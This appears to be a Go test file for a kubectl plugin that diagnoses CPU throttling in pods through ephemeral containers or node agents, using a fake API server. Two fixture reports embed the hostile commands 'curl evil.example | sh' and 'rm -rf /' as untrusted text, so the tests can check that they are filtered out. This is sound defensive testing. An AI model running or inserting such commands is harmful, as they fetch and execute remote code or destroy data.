package inpod

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"k8s.io/client-go/rest"

	"github.com/unthrottle/unthrottle/cmd/internal/show/report"
	"github.com/unthrottle/unthrottle/cmd/kubectl-unthrottle/internal/facts/cluster"
)

// A server answers as an API server does, of one pod whose state a test changes.
type server struct {
	t    *testing.T
	mu   sync.Mutex
	pod  map[string]any
	add  func(patch map[string]any, n int) (code int, message string) // n: how many were there before; 0 is yes
	then []any                                                        // states of the added container, one for each read
	log  string
	said []string
	adds []map[string]any

	agent, forward http.HandlerFunc
	list           string // of pods of deployment/api; "": mypod alone
}

func (s *server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if s.forward != nil && strings.HasSuffix(r.URL.Path, "/pods/mypod/portforward") {
		s.forward(w, r)
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	fail := func(code int, reason, message string) {
		w.WriteHeader(code)
		json.NewEncoder(w).Encode(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": reason, "message": message, "code": code})
	}
	switch path := strings.TrimPrefix(r.URL.Path, "/api/v1/namespaces/shop/pods"); {
	case r.URL.Path == "/apis/apps/v1/namespaces/u/daemonsets":
		io.WriteString(w, `{"items":[{"metadata":{"name":"d","uid":"d-1"}}]}`)
	case r.URL.Path == "/api/v1/namespaces/u/pods":
		if got := r.URL.Query(); got.Get("labelSelector") != "app.kubernetes.io/name=unthrottle-agent" || got.Get("fieldSelector") != "spec.nodeName=n1" {
			s.t.Errorf("agents are looked for by %v", got)
		}
		io.WriteString(w, `{"items":[{"metadata":{"namespace":"u","name":"old"},"status":{"phase":"Failed"}},{"metadata":{"namespace":"u","name":"friend"},"spec":{"nodeName":"n1"},"status":{"phase":"Running"}},`+
			`{"metadata":{"namespace":"u","name":"a","ownerReferences":[{"apiVersion":"apps/v1","kind":"DaemonSet","uid":"d-1","controller":true}]},"spec":{"nodeName":"n1"},`+
			`"status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}]}}]}`)
	case strings.HasPrefix(r.URL.Path, "/api/v1/namespaces/u/pods/https:a:9435/proxy/api/v1/"):
		s.agent(w, r)
	case r.URL.Path == "/apis/apps/v1/namespaces/shop/deployments/api":
		io.WriteString(w, `{"spec":{"selector":{"matchLabels":{"app":"api"}}}}`)
	case path == "":
		if got := r.URL.Query().Get("labelSelector"); got != "app=api" {
			s.t.Errorf("the selector is %q", got)
		}
		if s.list == "" {
			s.list = `{"items":[{"metadata":{"name":"mypod"}}]}`
		}
		io.WriteString(w, s.list)
	case path == "/mypod":
		if len(s.adds) > 0 && len(s.then) > 0 {
			last := s.adds[len(s.adds)-1]
			s.pod["status"].(map[string]any)["ephemeralContainerStatuses"] = []any{map[string]any{"name": last["name"], "state": s.then[0]}}
			if len(s.then) > 1 {
				s.then = s.then[1:]
			}
		}
		json.NewEncoder(w).Encode(s.pod)
	case path == "/mypod/ephemeralcontainers" && r.Method == http.MethodPatch:
		var patch struct {
			Spec struct{ EphemeralContainers []map[string]any }
		}
		if err := json.NewDecoder(r.Body).Decode(&patch); err != nil || len(patch.Spec.EphemeralContainers) != 1 {
			s.t.Errorf("patch: %v", err)
		}
		c := patch.Spec.EphemeralContainers[0]
		if s.add != nil {
			if code, message := s.add(c, len(s.adds)); code != 0 {
				s.adds = append(s.adds, c)
				fail(code, map[int]string{403: "Forbidden", 404: "NotFound"}[code], message)
				return
			}
		}
		s.adds = append(s.adds, c)
		json.NewEncoder(w).Encode(s.pod)
	case path == "/mypod/log":
		if r.URL.Query().Get("container") != s.adds[len(s.adds)-1]["name"] {
			s.t.Errorf("the log of %s is asked for", r.URL.Query().Get("container"))
		}
		io.WriteString(w, s.log)
	default:
		fail(404, "NotFound", r.URL.Path+" not found")
	}
}

// running is a pod of two containers that run.
func running() map[string]any {
	return object(`{"metadata":{},"spec":{"containers":[{"name":"web","image":"web","securityContext":{"runAsUser":7}},{"name":"api","image":"api"}]},
		"status":{"phase":"Running","containerStatuses":[{"name":"web","state":{"running":{}}},{"name":"api","state":{"running":{}}}]}}`)
}

func object(text string) (o map[string]any) {
	if err := json.Unmarshal([]byte(text), &o); err != nil {
		panic(err)
	}
	return o
}

func serve(t *testing.T, s *server) *Pod {
	s.t = t
	web := httptest.NewServer(s)
	t.Cleanup(web.Close)
	config := &rest.Config{Host: web.URL}
	cluster.Prepare(config, 5*time.Second)
	client, err := cluster.Place{Config: config}.Client()
	if err != nil {
		t.Fatal(err)
	}
	return &Pod{
		Config: config, REST: client, Namespace: "shop", Name: "mypod", Way: Ephemeral, Image: "registry.example.com/unthrottle:1",
		Start: time.Minute, Say: func(text string) { s.said = append(s.said, text) },
	}
}

func ended(code int) any {
	return object(fmt.Sprintf(`{"terminated":{"exitCode":%d}}`, code))
}

// If there are several pods, it is the one that kubectl logs and exec would take.
func TestFind(t *testing.T) {
	const ready = `"conditions":[{"type":"Ready","status":"True","lastTransitionTime":"2026-11-27T10:00:0`
	crashing := `{"metadata":{"name":"a"},"status":{"phase":"Running","conditions":[{"type":"Ready","status":"False","lastTransitionTime":"2026-11-01T00:00:00Z"}]}}`
	for _, c := range []struct{ name, pods, metadata, want string }{
		{"ready before crashing", crashing + `,{"metadata":{"name":"b"},"status":{"phase":"Running",` + ready + `1Z"}]}}`, "", "pod b of deployment/api, one of 2 pods, 1 of them ready"},
		{"ready for longest", `{"metadata":{"name":"a"},"status":{"phase":"Running",` + ready + `2Z"}]}},{"metadata":{"name":"b"},"status":{"phase":"Running",` + ready + `1Z"}]}}`, "", "pod b of deployment/api, one of 2 pods, 2 of them ready"},
		{"ending last", `{"metadata":{"name":"0","deletionTimestamp":"2026-11-27T10:00:00Z"},"status":{"phase":"Running",` + ready + `1Z"}]}},` + crashing, "", "pod a of deployment/api, one of 2 pods, none of them ready"},
		{"running before pending", `{"metadata":{"name":"0"},"status":{"phase":"Pending"}},` + crashing, "", "pod a of deployment/api, one of 2 pods, none of them ready"},
		{"restarted least", `{"metadata":{"name":"0"},"status":{"phase":"Running","containerStatuses":[{"restartCount":3}]}},` + crashing, "", "pod a of deployment/api, one of 2 pods, none of them ready"},
		{"oldest", `{"metadata":{"name":"a","creationTimestamp":"2026-11-27T10:00:00Z"}},{"metadata":{"name":"b","creationTimestamp":"2026-11-26T10:00:00Z"}}`, `"continue":"x"`, "pod b of deployment/api, one of at least 2 pods, none of them ready"},
	} {
		s := &server{list: `{"metadata":{` + c.metadata + `},"items":[` + c.pods + `]}`}
		if err := serve(t, s).Find(t.Context(), "deployments.v1.apps/api"); err != nil {
			t.Fatal(err)
		}
		if len(s.said) != 1 || s.said[0] != strings.Replace(c.want, "deployment/api", "deployments.v1.apps/api", 1) {
			t.Errorf("%s: %q, want %q", c.name, s.said, c.want)
		}
	}
	if err := serve(t, &server{list: `{"items":[]}`}).Find(t.Context(), "deploy/api"); err == nil || !strings.Contains(err.Error(), "deploy/api has no pod") {
		t.Error(err)
	}
}

// What is run is the verb with the first process of the container, as a user who may look into it.
func TestBeside(t *testing.T) {
	const document = `{"version":2,"verb":"explain","subject":{"pid":12,"name":"api"},"limit":{"state":"limited","cpus":2},"gomaxprocs":{"value":8},` +
		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"]}`
	s := &server{
		pod: running(), log: "unthrottle: a warning\n" + document + "\nunthrottle: the end\n",
		then: []any{object(`{"waiting":{"reason":"ContainerCreating"}}`), object(`{"running":{}}`), ended(3)},
	}
	p := serve(t, s)
	if err := p.Find(t.Context(), "deployment/api"); err != nil {
		t.Fatal(err)
	}
	done, err := p.Run(t.Context(), "explain", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if string(done.Document) != document || done.Code != 3 || done.Said != "unthrottle: a warning\nunthrottle: the end\n" {
		t.Errorf("%s, %q, %d", done.Document, done.Said, done.Code)
	}
	added := s.adds[0]
	delete(added, "name")
	got, _ := json.Marshal(added)
	want := `{"args":["explain","--json","--for=1s","1"],"image":"registry.example.com/unthrottle:1",` +
		`"securityContext":{"capabilities":{"add":["SYS_PTRACE"]},"runAsUser":0},"targetContainerName":"web"}`
	if string(got) != want {
		t.Errorf("added\n%s\nwant\n%s", got, want)
	}
	if len(s.said) != 2 || s.said[0] != "pod mypod of deployment/api, its only pod" {
		t.Errorf("it said %q", s.said)
	}
}

// Where root is not allowed, it is the program's own user.
func TestUser(t *testing.T) {
	rootless := running()
	rootless["spec"].(map[string]any)["securityContext"] = object(`{"runAsNonRoot":true,"runAsGroup":8}`)
	const user = `{"allowPrivilegeEscalation":false,"capabilities":{"drop":["ALL"]},"runAsGroup":8,"runAsNonRoot":true,"runAsUser":7,"seccompProfile":{"type":"RuntimeDefault"}}`
	for _, c := range []struct {
		name       string
		pod        map[string]any
		add        func(map[string]any, int) (int, string)
		privileged bool
		want       []string
	}{
		{"none may be root", rootless, nil, false, []string{user}},
		{"the namespace does not allow it", running(), func(_ map[string]any, n int) (int, string) {
			if n == 0 {
				return 403, `pods "mypod" is forbidden: violates PodSecurity "restricted:latest": runAsUser=0`
			}
			return 0, ""
		}, false, []string{`{"capabilities":{"add":["SYS_PTRACE"]},"runAsUser":0}`, strings.Replace(user, `"runAsGroup":8,`, "", 1)}},
		{"all rights", running(), nil, true, []string{`{"privileged":true,"runAsNonRoot":false,"runAsUser":0}`}},
	} {
		s := &server{pod: c.pod, add: c.add, log: "{}", then: []any{ended(0)}}
		p := serve(t, s)
		p.Privileged = c.privileged
		if _, err := p.Run(t.Context(), "explain", time.Second); err != nil {
			t.Errorf("%s: %v", c.name, err)
		}
		var got []string
		for _, added := range s.adds {
			text, _ := json.Marshal(added["securityContext"])
			got = append(got, string(text))
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: as %s, want %s", c.name, got, c.want)
		}
	}
}

// Where an agent runs it explains the container, and nothing is added to the pod.
func TestAgent(t *testing.T) {
	const document = `{"version":2,"verb":"explain","subject":{"pid":12,"name":"api"},"limit":{"state":"limited","cpus":2},"gomaxprocs":{"value":8},` +
		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"],"unmeasured":{"why":"curl"}}`
	known := running()
	known["spec"].(map[string]any)["nodeName"] = "n1"
	known["status"].(map[string]any)["containerStatuses"] = object(`{"of":[{"name":"web","containerID":"containerd://77","state":{"running":{}}}]}`)["of"]
	agent := func(processes string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/processes") {
				io.WriteString(w, processes)
			} else if strings.HasSuffix(r.URL.Path, "/explain") && r.URL.Query().Get("pid") == "12" {
				io.WriteString(w, document)
			} else {
				w.WriteHeader(http.StatusNotFound)
			}
		}
	}
	const three = `{"version":2,"node":"n1","processes":[{"pid":10,"cpus_used":3,"container":{"id":"78"}},{"pid":11,"cpus_used":0.1,"container":{"id":"77"}},{"pid":12,"cpus_used":0.2,"affinity_cpus":8,"gomaxprocs":{"value":8},"limit":{"state":"limited","cpus":2},"container":{"id":"77"}},{"pid":13}]}`
	s := &server{pod: known, agent: agent(three)}
	p := serve(t, s)
	p.Way, p.Agents = Auto, "u"
	done, err := p.Run(t.Context(), "explain", time.Second)
	if err != nil || len(s.adds) > 0 || len(s.said) != 2 || !strings.HasPrefix(s.said[0], "pod friend in u has an agent's label and was not asked") || s.said[1] != "asking agent a on node n1" {
		t.Fatalf("%+v, %v, %q", done, err, s.said)
	}
	if text := string(done.Document); !strings.Contains(text, "GOMAXPROCS is 8 under a limit of 2 CPUs") || strings.Contains(text, "curl") || strings.Contains(text, "unmeasured") || strings.Contains(text, "rm -rf") {
		t.Error(text)
	}
	for name, answer := range map[string]string{
		"another container": `{"version":2,"processes":[{"pid":10,"container":{"id":"78"}}]}`, "nonsense": "<html>", "nothing": "",
		"another process": `{"version":2,"processes":[{"pid":99,"container":{"id":"77"}}]}`,
		"another node":    `{"version":2,"node":"n2","processes":[{"pid":12,"container":{"id":"77"}}]}`,
	} {
		p := serve(t, &server{pod: known, agent: agent(answer)})
		p.Way, p.Agents = Agent, "u"
		if _, err := p.Run(t.Context(), "explain", time.Second); err == nil || !strings.Contains(err.Error(), "not available there: its agent") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// Where the program could not be looked at, what the pod says is reported, and nothing is done to the pod.
func TestUntouched(t *testing.T) {
	for _, c := range []struct {
		name, verb string
		with       func(*Pod)
		want       string
	}{
		{"no agent is asked", "explain", func(p *Pod) { p.Agents = "" }, "no agent was asked"},
		{"no agent", "explain", func(p *Pod) { p.Agents = "u" }, "its container has not run yet"},
		{"a process", "explain", func(p *Pod) { p.Agents, p.Process = "u", "api" }, "agents are asked for a container, and --process names a program in it"},
		{"a verb that needs a port", "trace", func(p *Pod) { p.Agents = "u" }, "no port could be asked: forwarding a port of pod mypod: unable to upgrade connection: /api/v1/namespaces/shop/pods/mypod/portforward not found"},
	} {
		s := &server{pod: running()}
		p := serve(t, s)
		p.Way = Auto
		c.with(p)
		done, err := p.Run(t.Context(), c.verb, time.Second)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if len(s.adds) > 0 || len(s.said) > 0 && c.verb != "trace" {
			t.Errorf("%s: added %v, said %q", c.name, s.adds, s.said)
		}
		var d report.Explain
		if err := json.Unmarshal(done.Document, &d); err != nil || d.Unmeasured == nil || d.Unmeasured.Why != c.want || d.Limit.State != "none" || done.Unmeasured.Error() != c.want {
			t.Errorf("%s: %v, %v\n%s", c.name, err, done.Unmeasured, done.Document)
		}
	}
}

// What goes wrong is reported, with what to do.
func TestFails(t *testing.T) {
	change := func(text string) map[string]any {
		pod := running()
		for key, v := range object(text) {
			for inner, v := range v.(map[string]any) {
				pod[key].(map[string]any)[inner] = v
			}
		}
		return pod
	}
	for _, c := range []struct {
		name string
		s    *server
		with func(*Pod)
		want string
	}{
		{"no such pod", &server{}, func(p *Pod) { p.Name = "other" }, "there is no pod other in namespace shop"},
		{"no such container", &server{}, func(p *Pod) { p.Container = "db" }, "the pod has no container db"},
		{"over", &server{pod: change(`{"status":{"phase":"Succeeded"}}`)}, nil, "the pod is over (succeeded)"},
		{
			"crashing", &server{pod: change(`{"status":{"containerStatuses":[{"name":"web","state":{"waiting":{"reason":"CrashLoopBackOff","message":"back-off 10s"}}}]}}`)}, nil,
			"container web does not run: CrashLoopBackOff: back-off 10s",
		},
		{"ended", &server{pod: change(`{"status":{"containerStatuses":[{"name":"web","state":{"terminated":{"exitCode":2}}}]}}`)}, nil, "does not run: ended with exit code 2"},
		{"not yet", &server{pod: change(`{"status":{"containerStatuses":[]}}`)}, nil, "container web does not run yet"},
		{"shared processes", &server{pod: change(`{"spec":{"shareProcessNamespace":true}}`)}, nil, "the containers of this pod see each other's processes"},
		{"no image", &server{then: []any{object(`{"waiting":{"reason":"ErrImagePull","message":"not found"}}`)}}, nil, "does not start: ErrImagePull: not found"},
		{"no such user", &server{then: []any{object(`{"waiting":{"reason":"CreateContainerConfigError","message":"non-numeric user"}}`)}}, nil, "CreateContainerConfigError: non-numeric user"},
		{"another image", &server{then: []any{object(`{"terminated":{"reason":"StartError","exitCode":128,"message":"no such file"}}`)}}, nil, "did not start: no such file"},
		{"never starts", &server{then: []any{object(`{"waiting":{"reason":"PodInitializing"}}`)}}, func(p *Pod) { p.Start = 0 }, "did not start within 0s: PodInitializing"},
		{"the kubelet is gone", &server{}, func(p *Pod) { p.Start = 0 }, "did not start within 0s"},
		{"forbidden", &server{add: func(map[string]any, int) (int, string) {
			return 403, `pods "mypod" is forbidden: User "eve" cannot patch resource "pods/ephemeralcontainers"`
		}}, nil, `adding an ephemeral container to pod mypod: User "eve" cannot patch`},
		{"an old server", &server{add: func(map[string]any, int) (int, string) {
			return 404, "the server could not find the requested resource"
		}}, nil, "knows no ephemeral containers"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.s.pod == nil {
				c.s.pod = running()
			}
			p := serve(t, c.s)
			if c.with != nil {
				c.with(p)
			}
			if done, err := p.Run(t.Context(), "explain", time.Second); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("%v, error %v, want %q", done, err, c.want)
			}
		})
	}
}

// TestInterrupted stops waiting.
func TestInterrupted(t *testing.T) {
	p := serve(t, &server{pod: running(), then: []any{object(`{"running":{}}`)}})
	ctx, cancel := context.WithCancel(t.Context())
	p.Say = func(string) { time.AfterFunc(50*time.Millisecond, cancel) }
	if _, err := p.Run(ctx, "watch", time.Second); err == nil || ctx.Err() == nil {
		t.Errorf("error %v", err)
	}
}

func TestParse(t *testing.T) {
	for _, c := range []struct{ out, document, said string }{
		{"{\"a\":1}\n", `{"a":1}`, ""},
		{"x {\n", "", "x {\n"},
		{"x\n{\n \"a\": \"}\\n{\"\n}\ny\n", "{\n \"a\": \"}\\n{\"\n}", "x\ny\n"},
		{"{\"a\":", "", "{\"a\":"},
		{"", "", ""},
	} {
		if got := parse([]byte(c.out), "", 0); string(got.Document) != c.document || got.Said != c.said {
			t.Errorf("%q: %q and %q", c.out, got.Document, got.Said)
		}
	}
}

// TestAmounts: Kubernetes' own library would parse these for minutes.
func TestAmounts(t *testing.T) {
	const amounts = `"resources":{"limits":{"cpu":"7e-77777771"},"requests":{"cpu":"7e-77777771"}},"overhead":{"cpu":"7e-77777771"},"allocatedResources":{"cpu":"7e-77777771"}`
	var p pod
	err := json.Unmarshal([]byte(`{"spec":{`+amounts+`,"containers":[{"name":"web",`+amounts+`}]},"status":{`+amounts+`,"containerStatuses":[{"name":"web",`+amounts+`}]}}`), &p)
	if s := p.status("web"); err != nil || s.Resources.Limits["cpu"] != "7e-77777771" {
		t.Errorf("%+v, %v", s, err)
	}
}
